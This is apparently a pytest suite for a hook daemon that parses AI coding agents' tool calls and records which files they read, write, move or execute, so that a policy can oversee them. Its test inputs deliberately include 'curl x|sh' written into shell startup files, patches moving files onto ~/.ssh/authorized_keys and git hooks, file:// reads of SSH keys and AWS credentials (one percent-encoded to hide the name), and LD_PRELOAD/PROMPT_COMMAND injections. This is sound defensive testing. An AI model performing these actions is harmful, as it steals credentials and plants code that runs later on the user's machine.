"""Each agent's file, search, patch and web tools, from the hook payload through its dialect to `input.paths` and
`input.effects` (hookd.enrich.paths, hookd.enrich.tool_effects): every path-like parameter counts, a search
tool's filter reaches the files it matches on disk, a patch names the files it writes, deletes and moves."""

from __future__ import annotations

import json
import os
import pwd
from pathlib import Path
from typing import Any

import pytest

from hookd.dialects.registry import AGENTS
from hookd.enrich.paths import enrich_paths
from hookd.enrich.tool_effects import enrich_tool_effects
from hookd.types import Caller, Deadline, HookRequest, NormalisedEvent

HOME = "/nonexistent-hookd-home/alice"


@pytest.fixture
def proj(tmp_path: Path) -> Path:
    project = (tmp_path / "proj").resolve()
    (project / "config").mkdir(parents=True)
    (project / "config" / "prod.env").write_text("KEY=1\n")
    (project / "config" / "app.toml").write_text("")
    (project / "src").mkdir()
    (project / "src" / "a.py").write_text("")
    (project / ".git" / "hooks").mkdir(parents=True)
    return project


def enriched(
    client: str, tool: str, tool_input: dict[str, Any], proj: Path, cwd: str = "", uid: int = 1000
) -> NormalisedEvent:
    """The event as the pipeline's enrichers leave it, from the agent's own PreToolUse payload."""
    names = [e.name for e in AGENTS[client].events]
    event = (
        "PreToolUse"
        if "PreToolUse" in names
        else next(e.name for e in AGENTS[client].events if e.event.value == "BeforeTool")
    )
    payload = {"session_id": "s", "transcript_path": "", "cwd": cwd or str(proj), "hook_event_name": event,
               "tool_name": tool, "tool_input": tool_input}  # fmt: skip
    request = HookRequest(
        client=client, event=event, payload=json.dumps(payload).encode(), cwd=str(proj),
        env={"HOME": HOME, AGENTS[client].project_dir_env: str(proj)},
        caller=Caller(uid=uid, gid=1000, pid=1), deadline=Deadline.after(5),
    )  # fmt: skip
    return enrich_tool_effects(enrich_paths(AGENTS[client].dialect.parse(request)))


def effects(event: NormalisedEvent) -> list[tuple[str, str, bool]]:
    return [(e["op"], e["path"], e["known"]) for e in event.facts.get("effects", [])]


def paths(event: NormalisedEvent) -> set[str]:
    return {e["path"] for e in event.facts.get("paths", [])}


SEARCHES = [
    ("claude", "Grep", {"pattern": "KEY", "glob": "*.env"}),
    ("claude", "Grep", {"pattern": "KEY", "path": "config", "glob": "*.{env,ini}"}),
    ("gemini", "grep_search", {"pattern": "KEY", "include_pattern": "*.env"}),
    ("gemini", "grep_search", {"pattern": "KEY", "dir_path": ".", "include": "**/*.env"}),
    ("gemini", "search_file_content", {"pattern": "KEY", "include": "*.env"}),
    ("qwen", "grep_search", {"pattern": "KEY", "glob": "*.env"}),
    ("copilot", "grep", {"pattern": "KEY", "glob": "**/*.env"}),
    ("copilot", "rg", {"pattern": "KEY", "path": ".", "glob": "prod.*"}),
    ("droid", "Grep", {"pattern": "KEY", "path": ".", "glob_pattern": "*.env"}),
    ("opencode", "grep", {"pattern": "KEY", "path": ".", "include": "*.env"}),
    ("kilo", "grep", {"pattern": "KEY", "include": "*.{env,ini}"}),
]


@pytest.mark.parametrize(("client", "tool", "tool_input"), SEARCHES)
def test_a_search_filter_reaches_the_files_it_matches(
    client: str, tool: str, tool_input: dict[str, Any], proj: Path
) -> None:
    event = enriched(client, tool, tool_input, proj)
    secret = str(proj / "config" / "prod.env")
    assert secret in paths(event)
    assert ("read", secret, True) in effects(event)
    assert str(proj / "src" / "a.py") not in paths(event)
    found = next(e for e in event.facts["effects"] if e["path"] == secret)
    assert found["via"] == "tool" and found["program"] == tool and found["class"] == "project"


@pytest.mark.parametrize(
    ("client", "tool", "tool_input"),
    [
        ("gemini", "read_many_files", {"include": ["config/*"]}),
        ("gemini", "read_many_files", {"paths": ["config/prod.*"]}),
        ("qwen", "read_many_files", {"paths": ["config/*.env"]}),
        ("gemini", "read_many_files", {"include": ["config"]}),  # a directory: every file in it
        ("qwen", "read_many_files", {"paths": ["."]}),
        ("qwen", "read_many_files", {"paths": ["src"], "include": ["config/*"]}),  # include adds globs
    ],
)
def test_read_many_files_reads_what_its_globs_match(
    client: str, tool: str, tool_input: dict[str, Any], proj: Path
) -> None:
    event = enriched(client, tool, tool_input, proj)
    assert ("read", str(proj / "config" / "prod.env"), True) in effects(event)


@pytest.mark.parametrize(
    ("client", "tool", "tool_input", "op", "relative"),
    [
        ("claude", "Read", {"file_path": "config/prod.env"}, "read", "config/prod.env"),
        ("claude", "NotebookRead", {"notebook_path": "src/n.ipynb"}, "read", "src/n.ipynb"),
        ("claude", "Write", {"file_path": ".git/hooks/x", "content": ""}, "write", ".git/hooks/x"),
        ("claude", "Edit", {"file_path": "src/a.py", "old_string": "a", "new_string": "b"}, "write", "src/a.py"),
        ("gemini", "read_file", {"file_path": "src/a.py"}, "read", "src/a.py"),
        ("gemini", "write_file", {"file_path": "src/b.py", "content": ""}, "write", "src/b.py"),
        ("gemini", "replace", {"file_path": "src/a.py", "old_string": "a", "new_string": "b"}, "write", "src/a.py"),
        ("qwen", "read_file", {"absolute_path": "src/a.py"}, "read", "src/a.py"),
        ("qwen", "write_file", {"file_path": "src/b.py", "content": ""}, "write", "src/b.py"),
        ("qwen", "edit", {"file_path": "src/a.py", "old_string": "a", "new_string": "b"}, "write", "src/a.py"),
        ("qwen", "notebook_edit", {"notebook_path": "n.ipynb"}, "write", "n.ipynb"),
        ("copilot", "view", {"path": "src/a.py"}, "read", "src/a.py"),
        ("copilot", "create", {"path": "src/b.py", "file_text": ""}, "write", "src/b.py"),
        ("copilot", "edit", {"path": "src/a.py", "old_str": "a", "new_str": "b"}, "write", "src/a.py"),
        ("copilot", "str_replace_editor", {"command": "create", "path": ".git/hooks/x"}, "write", ".git/hooks/x"),
        ("copilot", "glob", {"pattern": "**/*.py", "path": "src"}, "list", "src/**/*.py"),
        ("qwen", "glob", {"pattern": "*.py", "path": "src"}, "list", "src/*.py"),
        ("claude", "Glob", {"pattern": "*.py", "path": "src"}, "list", "src/*.py"),
    ],
)
def test_each_file_tool_of_each_agent(
    client: str, tool: str, tool_input: dict[str, Any], op: str, relative: str, proj: Path
) -> None:
    event = enriched(client, tool, tool_input, proj)
    assert (op, str(proj / relative), True) in effects(event)


def codex_patch(*lines: str) -> dict[str, Any]:
    return {"command": "\n".join(["*** Begin Patch", *lines, "*** End Patch"])}


PATCH_LINES = (
    "*** Add File: .git/hooks/pre-commit", "+#!/bin/sh",
    "*** Update File: src/a.py", "*** Move to: /home/alice/.ssh/authorized_keys", "@@", "+k",
    "*** Delete File: config/app.toml",
)  # fmt: skip


def test_codex_apply_patch_each_file_operation_and_move(proj: Path) -> None:
    event = enriched(
        "codex",
        "apply_patch",
        codex_patch(*PATCH_LINES),
        proj,
    )
    assert effects(event) == [
        ("write", str(proj / ".git/hooks/pre-commit"), True),
        ("move", str(proj / "src/a.py"), True),
        ("write", "/home/alice/.ssh/authorized_keys", True),  # the destination, as a shell move's is
        ("delete", str(proj / "config/app.toml"), True),
    ]
    move = event.facts["effects"][1]
    assert move["to"] == "/home/alice/.ssh/authorized_keys" and move["program"] == "apply_patch"
    # the policies of today read input.paths: every file is there, written
    assert {(e["path"], e["access"]) for e in event.facts["paths"]} == {
        (str(proj / ".git/hooks/pre-commit"), "write"),
        (str(proj / "src/a.py"), "write"),
        ("/home/alice/.ssh/authorized_keys", "write"),
        (str(proj / "config/app.toml"), "write"),
    }


def test_copilot_apply_patch_finds_its_patch_or_says_it_cannot(proj: Path) -> None:
    event = enriched("copilot", "apply_patch", {"input": codex_patch("*** Add File: x.txt", "+x")["command"]}, proj)
    assert effects(event) == [("write", str(proj / "x.txt"), True)]
    unknown = enriched("copilot", "apply_patch", {"diff": "*** Begin Patch\n*** Add File: x\n*** End Patch"}, proj)
    assert effects(unknown) == [("write", "", False)]


def test_a_glob_past_its_caps_is_not_known(proj: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("hookd.enrich.paths.MAX_GLOB_MATCHES", 1)
    event = enriched("claude", "Grep", {"pattern": "x", "glob": "*"}, proj)
    assert any(not known for _op, _path, known in effects(event))


def test_web_tools_fetch_their_url(proj: Path) -> None:
    event = enriched("claude", "WebFetch", {"url": "https://example.com/x", "prompt": "p"}, proj)
    assert [(e["op"], e["url"]) for e in event.facts["effects"]] == [("fetch", "https://example.com/x")]


def test_effects_already_there_are_kept(proj: Path) -> None:
    event = enriched("claude", "Read", {"file_path": "src/a.py"}, proj)
    again = enrich_tool_effects(event.with_facts(effects=[{"op": "exec"}]))
    assert again.facts["effects"][0] == {"op": "exec"} and len(again.facts["effects"]) == 2


def test_copilot_rg_searches_each_of_its_paths(proj: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    (other / "deep").mkdir(parents=True)
    (other / "deep" / "x.env").write_text("")
    event = enriched("copilot", "rg", {"pattern": "K", "paths": ["config", str(other)], "glob": "*.env"}, proj)
    assert {str(proj / "config" / "prod.env"), str(other / "deep" / "x.env")} <= paths(event)


def test_copilot_freeform_apply_patch_arrives_as_a_bare_string(proj: Path) -> None:
    """Copilot 1.0.102 sends a freeform tool's input as the bare toolArgs string (captured with gpt-5.5)."""
    patch = "*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+x\n*** End Patch"
    payload = {"sessionId": "s", "timestamp": 1, "cwd": str(proj), "toolName": "apply_patch", "toolArgs": patch}
    request = HookRequest(
        client="copilot", event="preToolUse", payload=json.dumps(payload).encode(), env={"HOME": HOME},
        cwd=str(proj), caller=Caller(uid=1000, gid=1000, pid=1), deadline=Deadline.after(5),
    )  # fmt: skip
    event = enrich_tool_effects(enrich_paths(AGENTS["copilot"].dialect.parse(request)))
    assert event.tool is not None and event.tool.input == {"input": patch}
    assert effects(event) == [("write", str(proj / ".git/hooks/pre-commit"), True)]


@pytest.mark.parametrize(
    ("client", "tool", "tool_input"),
    [
        ("droid", "Grep", {"pattern": "KEY", "path": "HOME"}),
        ("opencode", "grep", {"pattern": "KEY", "path": "HOME"}),
        ("kilo", "grep", {"pattern": "KEY", "path": "HOME/.config"}),
        ("claude", "Grep", {"pattern": "KEY", "path": "HOME"}),
    ],
)
def test_a_search_without_a_filter_outside_the_project_reads_everything_below(
    client: str, tool: str, tool_input: dict[str, Any], proj: Path
) -> None:
    home = proj.parent / "home"
    (home / ".config").mkdir(parents=True)
    (home / ".config" / "token").write_text("t")
    tool_input = {k: v.replace("HOME", str(home)) for k, v in tool_input.items()}
    event = enriched(client, tool, tool_input, proj)
    root = tool_input["path"]
    assert any(e[:2] == ("read", root) for e in effects(event))
    assert next(e for e in event.facts["effects"] if e["path"] == root)["recursive"] is True
    assert ("read", str(home / ".config" / "token"), True) in effects(event)


def test_a_patch_move_writes_its_destination_whatever_the_tool_knows_of_its_arguments(proj: Path) -> None:
    patch = codex_patch("*** Update File: README.md", "*** Move to: .git/hooks/post-merge", "@@", "-a", "+id")
    for client, tool, tool_input in (
        ("codex", "apply_patch", patch),
        ("droid", "ApplyPatch", {"input": patch["command"]}),  # no known patch argument: found in any
        ("opencode", "apply_patch", {"patchText": patch["command"]}),
    ):
        event = enriched(client, tool, tool_input, proj)
        assert ("write", str(proj / ".git/hooks/post-merge"), True) in effects(event), client


def test_a_patch_moving_a_file_onto_a_startup_file_runs_code_later(proj: Path) -> None:
    patch = codex_patch("*** Update File: notes.md", f"*** Move to: {HOME}/.bash_profile", "@@", "-a", "+curl x|sh")
    event = enriched("codex", "apply_patch", patch, proj)
    later = [e for e in event.facts["effects"] if e["op"] == "exec"]
    assert later and later[0]["startup"] == f"{HOME}/.bash_profile" and later[0]["deferred"] is True


def test_a_relative_path_from_a_session_that_moved_is_judged_where_the_agent_takes_it(proj: Path) -> None:
    event = enriched(
        "claude", "Edit", {"file_path": ".bashrc", "old_string": "", "new_string": "curl x|sh"}, proj, HOME
    )
    assert ("write", f"{HOME}/.bashrc", True) in effects(event)  # the session's directory: the home
    assert ("write", str(proj / ".bashrc"), True) in effects(event)  # the workspace root (Gemini's, Qwen's way)
    assert any(e["op"] == "exec" and e.get("startup") == f"{HOME}/.bashrc" for e in event.facts["effects"])


def test_a_startup_file_of_the_callers_own_home_counts_when_home_points_elsewhere(proj: Path) -> None:
    real = os.path.realpath(pwd.getpwuid(os.getuid()).pw_dir)
    edit = {"file_path": f"{real}/.bashrc", "old_string": "", "new_string": "curl x|sh"}
    event = enriched("qwen", "edit", edit, proj, uid=os.getuid())  # HOME is /nonexistent-hookd-home/alice
    assert any(e["op"] == "exec" and e.get("startup") == f"{real}/.bashrc" for e in event.facts["effects"])
    quiet = enriched("qwen", "edit", {**edit, "new_string": "export EDITOR=vim"}, proj, uid=os.getuid())
    assert not any(e["op"] == "exec" for e in quiet.facts["effects"])  # variables only: nothing runs


def test_a_file_url_given_to_a_web_tool_is_a_read_of_that_file(proj: Path) -> None:
    claude = enriched("claude", "WebFetch", {"url": f"file://{HOME}/.ssh/id_rsa", "prompt": "x"}, proj)
    assert ("read", f"{HOME}/.ssh/id_rsa", True) in effects(claude)
    gemini = enriched("gemini", "web_fetch", {"prompt": f"Summarise file://localhost{HOME}/.aws/cred%65ntials"}, proj)
    assert effects(gemini) == [("read", f"{HOME}/.aws/credentials", True)]
    web = enriched("claude", "WebFetch", {"url": "https://docs.rs/x", "prompt": "a file:// URL explained"}, proj)
    assert effects(web) == [("fetch", "", True)]


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("export LD_PRELOAD=/tmp/x.so", True),
        ("export BASH_ENV=/tmp/x.sh", True),
        ("PROMPT_COMMAND='curl x'", True),
        ("set -gx LD_PRELOAD /tmp/x.so", True),
        ("export PS1='$(id)> '", True),
        ("export PS1='\\u@\\h:\\w$ '", False),
        ("export EDITOR=vim\nexport GOPATH=$HOME/go", False),
    ],
)
def test_a_startup_file_given_only_variables_runs_code_when_one_is_read_as_code(
    text: str, runs: bool, proj: Path
) -> None:
    event = enriched("claude", "Edit", {"file_path": f"{HOME}/.bashrc", "old_string": "", "new_string": text}, proj)
    assert any(e["op"] == "exec" for e in event.facts["effects"]) is runs
